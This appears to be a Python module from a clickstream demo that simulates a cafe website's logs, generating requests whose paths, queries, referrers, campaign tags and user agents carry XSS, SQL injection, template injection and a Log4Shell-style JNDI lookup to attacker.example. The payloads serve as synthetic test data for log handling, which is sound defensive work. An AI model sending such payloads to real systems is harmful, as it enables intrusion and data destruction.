r"""Requests with scripts or SQL in a logged field, a few each day.

Some are sent by people's browsers, which follow prepared links: the attack is in a path, a
referrer, a query or a campaign tag. In others it is the user agent. They are written as in Apache's
log: a quote in a request or a header is `\"`. A page that shows them must escape them as text.
"""

from __future__ import annotations

from collections.abc import Iterator
from random import Random
from typing import NamedTuple
from urllib.parse import quote, urlsplit

from clickstream.demo.cafe import addresses, agents, menu
from clickstream.demo.cafe.arrivals import DIRECTLY, CafeArrival
from clickstream.demo.cafe.browser import Browser
from clickstream.demo.cafe.rules import CafeRules, dice, some_moment
from clickstream.demo.cafe.weblog import Ask, Client, Reply, Request, VisitSource, log
from clickstream.hours import Hour

PEOPLE_PER_HOUR, MACHINES_PER_HOUR = 0.25, 0.15

SEARCH_PAGES = tuple(
    menu.MenuPage("search", f"/cafe/search/{words}", 3_904)
    for words in (
        "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "'onmouseover='alert(1)",
        "%7B%7B7*7%7D%7D",
        "1'%20OR%20'1'='1",
    )
)
"""Pages with the search terms in their path, in the normal form of RFC 3986."""

QUERIES = (
    "q=<script>alert('cakes')</script>",
    "id=1'+OR+'1'='1",
    "id=1;drop+table+sessions;--",
)
REFERRERS = (
    "https://promo.example/<script>alert(1)</script>",
    r"https://deals.example/?q=\"><img src=x onerror=alert(1)>",
    "http://coupons.example/'-alert(1)-'",
)


class DecodedTags(NamedTuple):
    """Decoded campaign tags, and the channel that follows from them."""

    source: str
    medium: str
    campaign: str
    channel: str


TAGS = (
    DecodedTags("<script>alert(1)</script>", "email", '"><img src=x onerror=alert(1)>', "Email"),
    DecodedTags("newsletter", "email", "'; drop table sessions; --", "Email"),
    DecodedTags("<svg/onload=alert(1)>", "banner", "javascript:alert(1)", "Display"),
    DecodedTags("partner", "referral", "{{constructor.constructor('alert(1)')()}}", "Referral"),
)
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) <script>alert(1)</script>",
    r"Mozilla/5.0 \"><img src=x onerror=alert(1)>",
    "Mozilla/5.0 (compatible) ' OR '1'='1' --",
    "${jndi:ldap://attacker.example/a}",
)


def hostile_people(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the requests of people who follow a prepared link in the hour."""
    rng = dice(rules, hour, "hostile people")
    if rules.visitors_per_hour and rng.random() < PEOPLE_PER_HOUR:
        yield from _person(rng, rules, hour)


def _person(rng: Random, rules: CafeRules, hour: Hour) -> list[Request]:
    client = Client(addresses.home_address(rng), agents.pick(rng, agents.BROWSERS), "HTTP/2.0")
    browser = Browser(rng, rules, client, some_moment(rng, hour))
    page, arrival = _link(rng)
    browser.land(page, arrival)
    if rng.random() < 0.5:
        browser.wait(rng.randrange(3_000, 40_000))
        browser.follow(menu.HOME)
    return browser.history


def _link(rng: Random) -> tuple[menu.MenuPage, CafeArrival]:
    match rng.choice(("path", "query", "referrer", "tags")):
        case "path":
            return rng.choice(SEARCH_PAGES), DIRECTLY
        case "query":
            return menu.MENU, DIRECTLY._replace(query=rng.choice(QUERIES))
        case "referrer":
            return menu.HOME, _referred(rng.choice(REFERRERS))
    return menu.HOME, _tagged(rng.choice(TAGS))


def _referred(referrer: str) -> CafeArrival:
    host = urlsplit(referrer).hostname
    source = VisitSource(host, channel="Referral", source=host, medium="referral")
    return DIRECTLY._replace(referrer=referrer, source=source)


def _tagged(tags: DecodedTags) -> CafeArrival:
    query = "&".join(
        f"utm_{name}={quote(text)}"
        for name, text in zip(("source", "medium", "campaign"), tags, strict=False)
    )
    source = VisitSource(
        None, *tags[:3], channel=tags.channel, source=tags.source, medium=tags.medium
    )
    return DIRECTLY._replace(query=query, source=source)


def hostile_machines(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the requests of the hour with an attack in the user agent."""
    rng = dice(rules, hour, "hostile machines")
    if rules.scanners_per_hour and rng.random() < MACHINES_PER_HOUR:
        address = addresses.address_in(rng, addresses.SCANNERS)
        client = Client(address, rng.choice(AGENTS), is_machine=True)
        ask = Ask("GET", f"{menu.MENU.path}?{rng.choice(QUERIES)}", rng.choice(REFERRERS))
        yield log(client, some_moment(rng, hour), ask, Reply(200, menu.MENU.size, 90))
